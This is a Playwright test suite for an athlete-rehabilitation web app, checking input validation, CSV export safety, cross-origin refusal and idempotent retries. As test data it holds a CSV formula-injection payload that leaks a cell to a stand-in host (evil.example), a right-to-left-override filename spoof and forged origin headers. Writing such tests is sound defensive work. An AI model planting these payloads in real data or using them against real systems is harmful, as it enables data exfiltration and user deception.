import { request as pwRequest, type APIRequestContext } from "@playwright/test";
import Papa from "papaparse";
import { apiSession, baseUrl, credentialsPost } from "./api-session";
import { makeTarget, newId, SAME_ORIGIN, type Target } from "./api-targets";
import { acceptAndSignIn, act, daysAgo, form, inviteAthlete } from "./actions-targets";
import { describe as describeOutcome, manifestActions } from "./actions-rsc";
import { DEMO, expect, signIn, test } from "./fixtures";

/**
 * Integrity at the boundary (issue 18, items 4, 5, 6, 8, 9, 10), against the built app: JSON numbers
 * are taken strictly and a refused write changes nothing; control characters never reach the
 * database; the series range is limited as resolved; CSV cells are never formulas; a retry answers
 * with the stored row; a server action from another origin is a 403; the bench route is not served.
 */
test.describe.configure({ mode: "serial" });

let owner: APIRequestContext;
let self: APIRequestContext;
let t: Target;
const w0 = { actions: new Map<string, ReturnType<typeof manifestActions>[number]>(), calls: { n: 0 } };

test.beforeAll(async () => {
  test.setTimeout(120_000);
  for (const a of manifestActions()) w0.actions.set(`${a.filename}#${a.exportedName}`, a);
  owner = await apiSession(baseUrl(), DEMO.trainer.email, DEMO.trainer.password);
  t = await makeTarget(owner); // its check-in of today has morning pain 8
  self = await acceptAndSignIn(w0, await inviteAthlete(w0, owner, t.athleteId), t.email);
});

test.afterAll(async () => {
  if (t) await owner.patch(`/api/v1/athletes/${t.athleteId}`, { headers: SAME_ORIGIN(), data: { status: "archived" } });
  await self?.dispose();
  await owner?.dispose();
});

/** What issue 18 saw stored as 0 (or 1, or 5); "5" too: JSON numbers are numbers. */
const NOT_NUMBERS: unknown[] = [null, "", " ", false, true, [], [5], "5"];

async function expectRefused(res: Awaited<ReturnType<APIRequestContext["post"]>>, field: string, label: string) {
  const text = await res.text();
  expect([400, 422], `${label} → ${res.status()} ${text.slice(0, 200)}`).toContain(res.status());
  const body = JSON.parse(text) as { error: { message: string; fieldErrors?: Record<string, string[]> } };
  expect(body.error.message.length, label).toBeGreaterThan(0);
  const messages = Object.entries(body.error.fieldErrors ?? {}).filter(([k]) => k === field || k === "form");
  expect(messages.length, `${label}: no message for ${field} in ${text.slice(0, 300)}`).toBeGreaterThan(0);
}

async function todaysMorningPain(): Promise<number | null> {
  const series = (await (await owner.get(`/api/v1/athletes/${t.athleteId}/series`)).json()) as { today: string; rows: { date: string; morningPain: number | null }[] };
  return series.rows.find((r) => r.date === series.today)!.morningPain;
}

const countActivities = async () => ((await (await owner.get(`/api/v1/athletes/${t.athleteId}/activities`)).json()) as { items: unknown[] }).items.length;

test("every numeric JSON field refuses null, blanks, booleans, arrays and numeric strings; nothing changes", async () => {
  test.setTimeout(120_000);
  expect(await todaysMorningPain()).toBe(8);
  const activitiesBefore = await countActivities();
  const bike = { athleteId: t.athleteId, type: "bike", date: daysAgo(1), durationSec: 1800, distanceM: 10_000, rpe: 4, painDuring: 1, painAfter: 2 };
  const routes: { path: string; method: "post" | "patch" | "put"; valid: Record<string, unknown>; fields: string[]; optional: string[]; fresh?: boolean }[] = [
    { path: "/api/v1/check-ins", method: "post", valid: { athleteId: t.athleteId, morningPain: 3 }, fields: ["morningPain"], optional: [] },
    { path: "/api/v1/activities", method: "post", valid: bike, fields: ["rpe", "durationSec", "distanceM", "painDuring", "painAfter"], optional: ["distanceM", "painDuring", "painAfter"], fresh: true },
    { path: "/api/v1/exercise-logs", method: "post", valid: { athleteId: t.athleteId, programItemId: t.itemId, setsDone: 3, exercisePain: 1 }, fields: ["setsDone", "exercisePain"], optional: ["exercisePain"], fresh: true },
    { path: `/api/v1/athletes/${t.athleteId}/program`, method: "post", valid: { exerciseId: t.exerciseId, sets: 2, reps: 10, daysPerWeek: 3 }, fields: ["sets", "reps", "daysPerWeek"], optional: ["reps"] },
    { path: "/api/v1/athletes", method: "post", valid: { name: "Strict Numbers", birthYear: 2004 }, fields: ["birthYear"], optional: ["birthYear"] },
    { path: `/api/v1/athletes/${t.athleteId}`, method: "patch", valid: { birthYear: 2004 }, fields: ["birthYear"], optional: ["birthYear"] },
    {
      path: `/api/v1/athletes/${t.athleteId}/prescription`,
      method: "put",
      valid: { weeklyDistanceM: 30_000, longestRunM: 10_000 },
      fields: ["weeklyDistanceM", "longestRunM", "runIntervalSec", "walkIntervalSec"],
      optional: ["runIntervalSec", "walkIntervalSec"],
    },
    { path: `/api/v1/athletes/${t.athleteId}/shoes`, method: "post", valid: { name: "Strict shoe" }, fields: ["reminderM"], optional: ["reminderM"] },
    { path: `/api/v1/shoes/${t.shoeId}`, method: "patch", valid: { name: "Strict shoe" }, fields: ["reminderM"], optional: [] },
    { path: `/api/v1/activities/${t.activityId}`, method: "patch", valid: { rpe: 4 }, fields: ["rpe", "durationSec", "distanceM", "painDuring", "painAfter"], optional: ["distanceM", "painDuring", "painAfter"] },
  ];
  let sent = 0;
  for (const r of routes) {
    for (const field of r.fields) {
      for (const bad of NOT_NUMBERS) {
        // null leaves an optional score unreported (and clears a PATCHed field): allowed, not tried here
        if (bad === null && r.optional.includes(field)) continue;
        const data = { ...r.valid, [field]: bad, ...(r.fresh ? { clientId: newId() } : {}) };
        const res = await owner.fetch(r.path, { method: r.method.toUpperCase(), headers: SAME_ORIGIN(), data });
        await expectRefused(res, field, `${r.method.toUpperCase()} ${r.path} ${field}=${JSON.stringify(bad)}`);
        sent++;
      }
    }
  }
  // the check-in of today kept its score, and no activity was stored
  expect(await todaysMorningPain()).toBe(8);
  expect(await countActivities()).toBe(activitiesBefore);
  // the PATCHed activity kept every value it had
  expect(await (await owner.get(`/api/v1/activities/${t.activityId}`)).json()).toMatchObject({ rpe: 4, durationSec: 1800, distanceM: 10_000, painDuring: 1, painAfter: 2 });
  test.info().annotations.push({ type: "refused", description: `${sent} non-number values, all 4xx with a message` });
});

test("an optional score sent as null is stored as not reported, never 0", async () => {
  const res = await owner.post("/api/v1/activities", { headers: SAME_ORIGIN(), data: { athleteId: t.athleteId, clientId: newId(), type: "bike", date: daysAgo(2), durationSec: 1200, rpe: 3, painDuring: null, painAfter: null } });
  expect(res.status()).toBe(201);
  expect(await res.json()).toMatchObject({ painDuring: null, painAfter: null });
});

test("the athlete's forms: a blank or non-number required field is a field error, an existing score is kept", async () => {
  const date = daysAgo(3);
  const ATHLETE = "app/(athlete)/actions.ts";
  const flags = { redFlagsAny: "yes", ...Object.fromEntries(["clicking", "locking", "giving_way", "swelling", "night_pain", "cannot_bear_weight", "hot_red_fever"].map((f) => [`flag_${f}`, "no"])) };
  const saved = await act(w0, self, `${ATHLETE}#saveCheckInAction`, "/today", form({ date, morningPain: "6", tapeYesterday: "", note: "", clientId: newId(), ...flags }));
  expect(saved.actionRedirect, describeOutcome(saved)).toBe("/today?saved=check-in");
  const scoreOn = async () =>
    ((await (await self.get("/my-data/download?format=json")).json()) as { datasets: { check_ins: { date: string; morningPain: number | null }[] } }).datasets.check_ins.find((c) => c.date === date)?.morningPain;
  expect(await scoreOn()).toBe(6);
  const cases: [string, Record<string, string>, string][] = [];
  for (const bad of ["", " ", "true", "[5]", "abc", "1e1"]) {
    cases.push([`${ATHLETE}#saveCheckInAction`, { date, morningPain: bad, tapeYesterday: "", note: "", clientId: newId(), ...flags }, "morningPain"]);
    cases.push([`${ATHLETE}#logExerciseAction`, { clientId: newId(), programItemId: t.itemId, setsDone: bad, exercisePain: "", couldNotFinish: "" }, "setsDone"]);
    cases.push([`${ATHLETE}#saveActivityAction`, { clientId: newId(), type: "bike", date, duration: "30", distance: "", rpe: bad, painDuring: "", painAfter: "", shoeId: "", note: "" }, "rpe"]);
  }
  for (const [key, fields, field] of cases) {
    const o = await act(w0, self, key, "/today", form(fields));
    const label = `${key.split("#")[1]} ${field}=${JSON.stringify(fields[field])}: ${describeOutcome(o)}`;
    expect(o.status, label).toBe(200);
    expect(o.result?.ok, label).toBe(false);
    expect((o.result?.fieldErrors as Record<string, string[]> | undefined)?.[field]?.[0], label).toBeTruthy();
  }
  expect(await scoreOn()).toBe(6);
});

test("control characters: pages with %00 filters answer, the API refuses them, invisible names are refused", async () => {
  for (const path of ["/dashboard?group=%00", "/exercises?q=%00", "/athletes?q=%00", "/athletes?group=%00&q=a%00b"]) {
    const res = await owner.get(path, { maxRedirects: 0 });
    const html = await res.text();
    expect(res.status(), path).toBe(200);
    expect(html, path).not.toMatch(/Something went wrong|could not be loaded/i);
  }
  const anon = await pwRequest.newContext({ baseURL: baseUrl() });
  const signInRes = await credentialsPost(anon, "nul\u0000@example.com", "not-the-password", { "x-forwarded-for": `203.0.113.${1 + Math.floor(Math.random() * 250)}` });
  expect(signInRes.status(), "sign-in with a NUL in the email").toBeLessThan(500);
  await anon.dispose();

  const refused: [string, "post" | "patch", Record<string, unknown>, string][] = [
    ["/api/v1/athletes", "post", { name: "Nul\u0000Name" }, "name"],
    ["/api/v1/athletes", "post", { name: "\u200B\u200C\u200D" }, "name"],
    ["/api/v1/athletes", "post", { name: "\u202E\u2066\u2069" }, "name"],
    ["/api/v1/athletes", "post", { name: "Mallory \u202Egnp.exe" }, "name"],
    [`/api/v1/athletes/${t.athleteId}`, "patch", { notes: "a\u0000b" }, "notes"],
    [`/api/v1/athletes/${t.athleteId}`, "patch", { sportGroup: "x\u0007" }, "sportGroup"],
    ["/api/v1/check-ins", "post", { athleteId: t.athleteId, morningPain: 2, note: "\u0000" }, "note"],
  ];
  for (const [path, method, data, field] of refused) {
    const res = await owner.fetch(path, { method: method.toUpperCase(), headers: SAME_ORIGIN(), data });
    await expectRefused(res, field, `${method} ${path} ${JSON.stringify(data)}`);
  }
  const query = await owner.get("/api/v1/athletes?q=%00");
  expect(query.status()).toBe(422);
  // a name with a real letter among zero-width joiners is a name
  const ok = await owner.post("/api/v1/athletes", { headers: SAME_ORIGIN(), data: { name: `Zoë\u200D ${Date.now()}` } });
  expect(ok.status()).toBe(201);
  await owner.patch(`/api/v1/athletes/${((await ok.json()) as { id: string }).id}`, { headers: SAME_ORIGIN(), data: { status: "archived" } });
  expect(await todaysMorningPain()).toBe(8);
});

test("the series range is limited as resolved: from alone reaching 1900, or after today, is a 422", async () => {
  const base = `/api/v1/athletes/${t.athleteId}/series`;
  for (const qs of ["from=1900-01-01", "from=2100-01-01", "from=1900-01-01&to=2026-01-01", "from=2026-02-01&to=2026-01-01"]) {
    const res = await owner.get(`${base}?${qs}`);
    expect(res.status(), qs).toBe(422);
    // the message, or the field's message when both dates were sent (the schema's check)
    expect(JSON.stringify(await res.json()), qs).toMatch(/3 years|on or before/);
  }
  const res = await owner.get(`${base}?to=${daysAgo(1)}`);
  expect(res.status()).toBe(200);
  expect(((await res.json()) as { rows: unknown[] }).rows).toHaveLength(84);
});

test("a check-in retried with its clientId more than 7 days after its date answers with the stored row", async () => {
  const clientId = newId();
  const date = daysAgo(10);
  const first = await self.post("/api/v1/check-ins", { headers: SAME_ORIGIN(), data: { date, morningPain: 3, clientId } });
  expect(first.status()).toBe(201);
  const stored = await first.json();
  const retry = await self.post("/api/v1/check-ins", { headers: SAME_ORIGIN(), data: { date, morningPain: 3, clientId } });
  expect(retry.status()).toBe(200);
  expect(await retry.json()).toEqual(stored);
  // a new submission for that date is an edit the athlete may no longer make
  const edit = await self.post("/api/v1/check-ins", { headers: SAME_ORIGIN(), data: { date, morningPain: 5, clientId: newId() } });
  expect(edit.status()).toBe(409);
});

test("CSV downloads never start a cell with a formula", async () => {
  const note = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
  const res = await self.post("/api/v1/check-ins", { headers: SAME_ORIGIN(), data: { date: daysAgo(9), morningPain: 2, note, clientId: newId() } });
  expect(res.status()).toBe(201);
  const csv = await self.get("/my-data/download?format=csv&dataset=check_ins");
  expect(csv.status()).toBe(200);
  const cells = Papa.parse<string[]>(await csv.text(), { skipEmptyLines: true }).data.flat();
  expect(cells).toContain(`'${note}`);
  const formulas = cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-(?![\d.])/.test(c));
  expect(formulas).toEqual([]);
});

test("a server action posted from another origin is refused with 403 and changes nothing", async () => {
  const name = `Foreign Origin ${Date.now()}`;
  const key = "app/(trainer)/athletes/actions.ts#createAthleteAction";
  for (const origin of ["https://evil.example", "null", "not a url"]) {
    const o = await act(w0, owner, key, "/athletes/new", form({ name, email: "", sportGroup: "", birthYear: "", injuredSide: "", condition: "", onsetDate: "", trainerId: "", timeZone: "", notes: "" }), { headers: { origin } });
    expect(o.status, `${origin}: ${describeOutcome(o)}`).toBe(403);
  }
  const roster = (await (await owner.get(`/api/v1/athletes?q=${encodeURIComponent(name)}&status=all`)).json()) as { total: number };
  expect(roster.total).toBe(0);
});

test("the benchmark's ceiling route is not served outside the benchmark", async () => {
  const res = await owner.get("/api/bench/ceiling");
  expect(res.status()).toBe(404);
});

test("the add-athlete form says why a name of invisible characters is refused (1280 and 375 px)", async ({ page }) => {
  await signIn(page, DEMO.trainer.email, DEMO.trainer.password);
  for (const width of [1280, 375]) {
    await page.setViewportSize({ width, height: 900 });
    await page.goto("/athletes/new");
    await page.getByLabel("Name", { exact: true }).fill("\u200B\u200B\u200B");
    await page.getByRole("button", { name: /add athlete|save/i }).click();
    await expect(page.getByText(/visible letter or digit/)).toBeVisible();
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
    await page.screenshot({ path: `${process.env.E2E_OUTPUT_DIR ?? "test-results"}/integrity-invisible-name-${width}.png`, fullPage: true });
  }
});
